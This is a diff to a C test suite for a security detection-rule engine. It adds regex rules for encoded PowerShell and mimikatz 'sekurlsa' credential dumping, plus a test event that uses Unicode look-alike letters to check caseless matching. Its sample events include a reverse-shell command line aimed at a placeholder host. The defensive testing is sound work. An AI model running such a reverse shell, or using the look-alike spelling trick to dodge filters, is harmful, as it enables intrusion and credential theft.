@@ -78,6 +78,8 @@ static const char shapes_src[] =
     "rule \"glob middle\" { on process when process.executable like '*\\System32\\*' }\n"
     "rule \"negated\" { on process when not (process.name in [\"nginx\"]) }\n"
     "rule \"regex\" { on process when process.command_line matches '(?i)-enc\\s' }\n"
+    "rule \"regex alternation\" { on process when process.command_line matches '-enc|-e\\s' }\n"
+    "rule \"regex caseless\" { on process when process.command_line matches '(?i)\\bmimikatz\\b.*sekurlsa' }\n"
     "rule \"regex after name\" { on process when process.name == \"pwsh\" and process.command_line matches '-enc' }\n"
     "rule \"either\" { on process when process.name == \"a\" or process.parent.name == \"b\" }\n"
     "rule \"loop first\" { on process when any a in process.args: a == \"-enc\" }\n"
@@ -117,7 +119,11 @@ static void test_shapes(void)
     CHECK_STR(describe(rt, "glob suffix"), "process.executable suffix \"\\cmd.exe\"");
     CHECK_INT(state_of(rt, "glob middle"), PAL_IX_ALWAYS);        /* no literal end */
     CHECK_INT(state_of(rt, "negated"), PAL_IX_ALWAYS);
-    CHECK_INT(state_of(rt, "regex"), PAL_IX_ALWAYS);
+    /* a regex is keyed by a literal every match contains */
+    CHECK_STR(describe(rt, "regex"), "process.command_line contains \"-enc\"");
+    CHECK_INT(state_of(rt, "regex alternation"), PAL_IX_ALWAYS);
+    /* caseless: the run stops at k and s, which Unicode pairs with non-ASCII letters */
+    CHECK_STR(describe(rt, "regex caseless"), "process.command_line contains \"mimi\"");
     CHECK_STR(describe(rt, "regex after name"), "process.name = \"pwsh\"");
     CHECK_STR(describe(rt, "either"), "process.name = \"a\" | process.parent.name = \"b\"");
     CHECK_INT(state_of(rt, "loop first"), PAL_IX_ALWAYS);         /* a loop's cost is unbounded */
@@ -154,8 +160,8 @@ static void test_shapes(void)
 
     pal_index_stats st = pal_index_get_stats(pal_runtime_index(rt));
     CHECK_INT(st.rules, st.indexed + st.always + st.never);
-    if (st.indexed < 16) fprintf(stderr, "indexed %u always %u never %u\n", st.indexed, st.always, st.never);
-    CHECK(st.indexed >= 16);
+    if (st.indexed < 18) fprintf(stderr, "indexed %u always %u never %u\n", st.indexed, st.always, st.never);
+    CHECK(st.indexed >= 18);
     pal_runtime_free(rt);
     pal_program_free(p);
 }
@@ -171,6 +177,8 @@ static const char *const shape_events[] = {
     "{\"event\":{\"category\":[\"process\"]},\"process\":{\"name\":\"x\",\"args\":[\"-c\",\"-enc\"],\"parent\":{\"name\":\"b\"}}}",
     "{\"event\":{\"category\":[\"process\"]},\"process\":{\"name\":\"bash\",\"command_line\":\"bash -i >& /dev/tcp/1.2.3.4/80\"}}",
     "{\"event\":{\"category\":[\"process\"]},\"process\":{\"name\":\"pwsh\",\"command_line\":\"pwsh -enc AAAA\"}}",
+    /* U+212A KELVIN SIGN and U+017F LONG S match k and s caselessly in PCRE2 */
+    "{\"event\":{\"category\":[\"process\"]},\"process\":{\"name\":\"m\",\"command_line\":\"MIMI\u212aATZ \u017fEKURL\u017fA\"}}",
     /* DNS: case, trailing dot, one more label, the bare suffix */
     "{\"event\":{\"category\":[\"network\"]},\"network\":{\"protocol\":\"dns\"},\"dns\":{\"question\":{\"name\":\"Mail.Google.COM.\"}}}",
     "{\"event\":{\"category\":[\"network\"]},\"network\":{\"protocol\":\"dns\"},\"dns\":{\"question\":{\"name\":\"google.com\"}}}",
@@ -209,10 +217,16 @@ static void test_decisions(void)
     CHECK_HAS(j, "\"rule\":\"glob suffix\"");
     free(j);
     pal_arena_reset(&d.arena);
-    CHECK_INT(pal_event_decode(shape_events[7], strlen(shape_events[7]), PAL_INPUT_AUTO, NULL, &d.arena, &ev, err, sizeof err), 0);
+    CHECK_INT(pal_event_decode(shape_events[8], strlen(shape_events[8]), PAL_INPUT_AUTO, NULL, &d.arena, &ev, err, sizeof err), 0);
     CHECK_INT(pal_decide_event(d.with, &ev, &dec), 0);
     j = pal_decision_json(d.with, &dec, 1);
     CHECK_HAS(j, "\"rule\":\"wildcard\"");
+    free(j);
+    pal_arena_reset(&d.arena);
+    CHECK_INT(pal_event_decode(shape_events[7], strlen(shape_events[7]), PAL_INPUT_AUTO, NULL, &d.arena, &ev, err, sizeof err), 0);
+    CHECK_INT(pal_decide_event(d.with, &ev, &dec), 0);
+    j = pal_decision_json(d.with, &dec, 1);
+    CHECK_HAS(j, "\"rule\":\"regex caseless\"");
     free(j);
     ig_diff_free(&d);
     pal_program_free(p);
